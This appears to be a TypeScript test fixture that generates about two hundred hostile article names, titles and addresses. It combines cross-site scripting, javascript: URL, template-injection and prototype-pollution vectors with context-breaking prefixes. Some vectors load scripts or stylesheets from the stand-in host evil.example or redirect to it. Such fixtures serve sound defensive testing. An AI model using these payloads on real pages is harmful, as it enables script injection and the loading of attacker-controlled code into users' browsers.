/** What would run, fetch or restyle if a page took it for markup or for an address. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input onfocus=alert(1) autofocus>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><img src=x onerror=alert(1)></math>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://norva.example/',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '\u2028alert(1)\u2029',
  '__proto__',
  'constructor',
];
/** Where it may stand: as it is, or behind what ends an attribute, an element, a comment or a string. */
const BEFORE = ['', '"><', "'>", '</script>', '</title></style>', '--><!--', ']]>', '\\";'];

/** Some two hundred names, titles and addresses that an article may bring. */
export const HOSTILE: readonly string[] = BEFORE.flatMap((before) =>
  VECTORS.map((vector) => before + vector),
);
